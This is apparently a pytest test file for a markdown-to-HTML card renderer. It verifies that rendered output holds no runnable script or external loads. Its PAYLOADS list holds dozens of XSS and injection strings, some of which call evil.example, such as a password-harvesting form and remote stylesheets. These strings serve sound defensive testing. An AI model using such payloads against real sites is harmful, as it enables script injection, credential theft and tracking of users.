"""Cards on our own origin: nothing in them runs, and nothing in them calls elsewhere."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from iriai.cards import render


def html(text, folder=""):
    return render.html(
        text, resolve="/ada/tiny/resolve/main/", blob="/ada/tiny/blob/main/", folder=folder
    )


PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='  java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    '[x](# "onmouseover=alert(1)")',
    '[x](#" onmouseover="alert(1))',
    '![x" onerror="alert(1)](y)',
    '![x](https://evil.example/a.png"onerror="alert(1))',
    "<form action=https://evil.example><input name=password><button>go</button></form>",
    "<input type=image src=https://evil.example/x>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<table background=https://evil.example/x><tr><td>x</table>",
    "<video src=https://evil.example/x autoplay poster=https://evil.example/y></video>",
    "<audio src=x onerror=alert(1)>",
    "<picture><source srcset=https://evil.example/x><img src=https://evil.example/y></picture>",
    "<img srcset='https://evil.example/x 2x' src=y>",
    "<img src=//evil.example/x>",
    "<img src='/\\evil.example/x'>",
    "<a href='/\t/evil.example/x'>x</a>",
    "<a href='\\\\evil.example/x'>x</a>",
    "<img src='https&colon;//evil.example/x'>",
    "<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=x&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<a title='<img src=' href='>\" onclick=alert(1)'>x</a>",
    "<div id=location name=cookie><a id=location>x</a></div>",
    "<details ontoggle=alert(1) open><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x-button onclick=alert(1)>x</x-button>",
    "<button hx-get=/api/tokens hx-trigger=load>x</button>",
    "<div hx-get=/settings hx-trigger=load data-hx-post=/x>x</div>",
    "```python\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    '[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: x',
    '# <script>alert(1)</script>\n# "><img src=x onerror=alert(1)>',
    "- [x] <script>alert(1)</script>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "~~<script>alert(1)</script>~~",
    "---\nwidget: javascript:alert(1)\n---\n<script>alert(1)</script>",
]


class Judge(HTMLParser):
    """Collects whatever in a document could run, or load from elsewhere."""

    def __init__(self):
        super().__init__()
        self.faults = []

    def handle_starttag(self, tag, attributes):
        if tag not in render.TAGS:
            self.faults.append(tag)
        for name, given_value in attributes:
            value = given_value or ""
            if name.startswith(("on", "hx-", "data-")) or name in {"style", "srcset", "name"}:
                self.faults.append((tag, name, value))
            if name == "src" and not re.match(r"/ada/tiny/|/(?![/\\])", value):
                self.faults.append((tag, name, value))
            if name == "href" and not re.match(r"#|/(?![/\\])|https?://|mailto:", value):
                self.faults.append((tag, name, value))
            if name == "id" and not value.startswith(render.ID_PREFIX):
                self.faults.append((tag, name, value))

    def handle_comment(self, data):
        self.faults.append(("comment", data))

    def handle_decl(self, decl):
        self.faults.append(("declaration", decl))


def faults(document):
    judge = Judge()
    judge.feed(document)
    judge.close()
    return judge.faults


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_leaves_anything_that_runs_or_calls_elsewhere(payload):
    assert faults(html(payload)) == []
    assert faults(html(f"# Title\n\ntext {payload} text\n\n> {payload}\n")) == []


@given(st.lists(st.sampled_from(PAYLOADS) | st.text(max_size=12), max_size=6), st.text(max_size=3))
def test_no_mixture_of_payloads_leaves_anything_that_runs(pieces, glue):
    assert faults(html(glue.join(pieces))) == []


def test_links_and_images_of_the_repository_lead_to_its_own_pages():
    made = html("[a](docs/guide.md#top) ![b](images/b%20c.png) [up](../x) [self](#part) [d](/docs)")
    assert 'href="/ada/tiny/blob/main/docs/guide.md#top"' in made
    assert 'src="/ada/tiny/resolve/main/images/b%20c.png"' in made
    assert ">up</a>" in made
    assert 'href="#card-part"' in made
    assert 'href="/docs"' in made
    assert "../" not in made


def test_a_text_in_a_folder_links_from_there_and_never_out_of_the_repository():
    made = html("[a](b.md) [c](../d.md) [e](../../f.md)", folder="docs/en")
    assert 'href="/ada/tiny/blob/main/docs/en/b.md"' in made
    assert 'href="/ada/tiny/blob/main/docs/d.md"' in made
    assert 'href="/ada/tiny/blob/main/f.md"' in made
    assert "href" not in html("[e](../../../f.md)", folder="docs/en")


def test_an_image_from_elsewhere_is_a_link_and_inside_a_link_its_words():
    assert html("![Figure](https://example.org/a.png)").strip() == (
        '<p><a class="external-image" href="https://example.org/a.png" '
        'rel="nofollow noopener noreferrer ugc">Figure</a></p>'
    )
    badge = html("[![build](https://example.org/b.svg)](https://ci.example.org)")
    assert badge.count("<a ") == 1
    assert ">build</a>" in badge


def test_tables_tasks_footnotes_and_code_are_shown_as_such():
    made = html(
        "| a | b |\n|--|--:|\n| 1 | 2 |\n\n- [x] done\n\nx[^1]\n\n[^1]: note\n\n"
        "```python\nimport os\n```\n\n~~gone~~ https://example.org\n"
    )
    assert '<td align="right">2</td>' in made
    assert '<input class="task-list-item-checkbox" checked' in made
    assert 'href="#card-fn1"' in made
    assert 'id="card-fn1"' in made
    assert '<span class="kn">import</span>' in made
    assert "<s>gone</s>" in made
    assert '<a href="https://example.org"' in made


def test_headings_carry_anchors_that_the_cards_own_links_reach():
    made = html("[Use](#how-to-use-it)\n\n## How to use it?\n")
    assert 'href="#card-how-to-use-it"' in made
    assert '<h2 id="card-how-to-use-it">' in made


def test_the_front_matter_is_not_shown():
    assert "license" not in html("---\nlicense: mit\n---\nHello")


def test_a_very_long_text_is_cut_and_says_so():
    assert "too long to be shown whole" in html("word " * render.TEXT_LENGTH_MAX)


@pytest.mark.parametrize(
    "text",
    ["http://a." * 20_000, "<div>" * 40_000, "[" * 200_000, "# a\n" * 60_000],
    ids=["links", "tags", "brackets", "headings"],
)
def test_a_text_that_takes_long_is_shown_as_it_stands_and_soon(text):
    began = time.monotonic()
    shown = render.html(text, resolve="/r/", blob="/b/")
    assert "it is shown as it stands" in shown
    assert time.monotonic() - began < 30  # seconds; each took minutes
